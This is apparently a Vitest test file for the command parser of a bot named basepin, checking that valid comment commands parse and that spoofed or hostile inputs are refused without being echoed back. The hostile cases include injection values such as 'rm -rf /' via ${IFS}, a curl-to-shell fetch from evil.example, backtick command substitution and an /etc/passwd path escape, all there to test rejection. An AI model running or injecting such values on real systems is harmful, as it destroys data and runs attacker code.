import { describe, expect, it } from 'vitest';
import { renderHelp } from '../../../src/comments/commands/help.ts';
import { maxCommentChars, parseCommand, type CommandParse } from '../../../src/comments/commands/parse.ts';

const command = (value: unknown): CommandParse => ({ kind: 'command', command: value }) as CommandParse;
const none: CommandParse = { kind: 'none' };
const alpine = { repository: 'docker.io/library/alpine', tag: undefined };

describe('parseCommand: commands', () => {
  it.each<[string, string, CommandParse]>([
    ['rebase', '/basepin rebase', command({ name: 'rebase' })],
    ['recreate', '/basepin recreate', command({ name: 'recreate' })],
    ['help', '/basepin help', command({ name: 'help' })],
    ['ignored', '/basepin ignored', command({ name: 'ignored' })],
    ['pin', '/basepin pin', command({ name: 'pin' })],
    ['ignore an image', '/basepin ignore alpine', command({ name: 'ignore', target: alpine })],
    [
      'ignore one tag',
      '/basepin ignore alpine:3.20',
      command({ name: 'ignore', target: { repository: 'docker.io/library/alpine', tag: '3.20' } }),
    ],
    [
      'unignore a registry image',
      '/basepin unignore ghcr.io/acme/app:1',
      command({ name: 'unignore', target: { repository: 'ghcr.io/acme/app', tag: '1' } }),
    ],
    ['trailing CRLF and more lines', '/basepin rebase\r\nthanks!', command({ name: 'rebase' })],
    [
      'leading blanks and tabs between words',
      '  /basepin\tignore   alpine  ',
      command({ name: 'ignore', target: alpine }),
    ],
    ['an upper-case command name', '/basepin REBASE', command({ name: 'rebase' })],
  ])('%s', (_name, body, expected) => {
    expect(parseCommand(body)).toEqual(expected);
  });
});

describe('parseCommand: not for basepin (no reply)', () => {
  it.each([
    ['plain text', 'LGTM'],
    ['empty', ''],
    ['the command on a later line', 'please\n/basepin rebase'],
    ['a longer word', '/basepinned rebase'],
    ['a quoted command', '> /basepin rebase'],
    ['a code span', '`/basepin rebase`'],
    ['fullwidth solidus look-alike', '／basepin rebase'],
    ['Cyrillic а in the prefix', '/bаsepin rebase'],
    ['no-break space after the prefix', '/basepin\u00a0rebase'],
    ['a BOM before the prefix', '\ufeff/basepin rebase'],
    ['an @mention', '@basepin rebase'],
  ])('%s', (_name, body) => {
    expect(parseCommand(body)).toEqual(none);
  });
});

describe('parseCommand: refused with a reason, never echoing the text', () => {
  const hostile: [string, string, RegExp][] = [
    ['no command', '/basepin', /no command/],
    ['an unknown command', '/basepin merge', /not a basepin command/],
    ['a look-alike command (Cyrillic е)', '/basepin rеbase', /not a basepin command/],
    ['an argument where none is taken', '/basepin rebase now', /takes no argument/],
    ['ignore without an image', '/basepin ignore', /needs an image/],
    ['two images', '/basepin ignore alpine node', /takes one image/],
    ['shell metacharacters', '/basepin ignore alpine;rm${IFS}-rf${IFS}/', /not a valid image reference/],
    ['command substitution', '/basepin ignore $(curl${IFS}evil.example|sh)', /not a valid image reference/],
    ['backticks', '/basepin ignore `id`', /not a valid image reference/],
    ['markdown link', '/basepin ignore [x](https://evil.example)', /not a valid image reference/],
    ['an html comment ending', '/basepin ignore alpine-->', /not a valid image reference/],
    ['an @mention', '/basepin ignore @everyone', /not a valid image reference/],
    ['upper case image', '/basepin ignore Alpine', /not a valid image reference/],
    ['Cyrillic а in the image', '/basepin ignore аlpine', /not a valid image reference/],
    ['fullwidth letters', '/basepin ignore ａｌｐｉｎｅ', /not a valid image reference/],
    ['bidi override', '/basepin ignore alp\u202eine', /not a valid image reference/],
    ['a zero-width space', '/basepin ignore alp\u200bine', /not a valid image reference/],
    ['a digest', `/basepin ignore alpine@sha256:${'a'.repeat(64)}`, /not a digest/],
    ['a glob', '/basepin ignore ghcr.io/acme/*', /not a valid image reference/],
    ['a path escape', '/basepin ignore ../../etc/passwd', /not a valid image reference/],
    ['a very long line', `/basepin ignore ${'a'.repeat(10_000)}`, /longer than 512 characters/],
    ['a name over 255 characters', `/basepin ignore ${'a'.repeat(300)}`, /not a valid image reference/],
  ];
  it.each(hostile)('%s', (_name, body, reason) => {
    const result = parseCommand(body);
    expect(result.kind).toBe('invalid');
    const text = (result as { reason: string }).reason;
    expect(text).toMatch(reason);
    // Only our words: nothing of the argument comes back.
    const argument = body.split(' ').slice(2).join(' ');
    if (argument.length > 3) expect(text).not.toContain(argument);
  });

  it('caps a 10 kB comment and an oversize one', () => {
    expect(parseCommand(`/basepin rebase\n${'x'.repeat(10_000)}`)).toEqual(command({ name: 'rebase' }));
    const huge = `/basepin rebase\n${'x'.repeat(maxCommentChars)}`;
    expect(parseCommand(huge)).toMatchObject({
      kind: 'invalid',
      reason: expect.stringMatching(/longer than/),
    });
    expect(parseCommand(`hello\n${'x'.repeat(maxCommentChars)}`)).toEqual(none);
  });
});

describe('help', () => {
  it('lists every command', () => {
    const help = renderHelp();
    for (const name of ['rebase', 'recreate', 'ignore', 'unignore', 'ignored', 'pin', 'help']) {
      expect(help).toContain(`\`/basepin ${name}`);
    }
  });
});
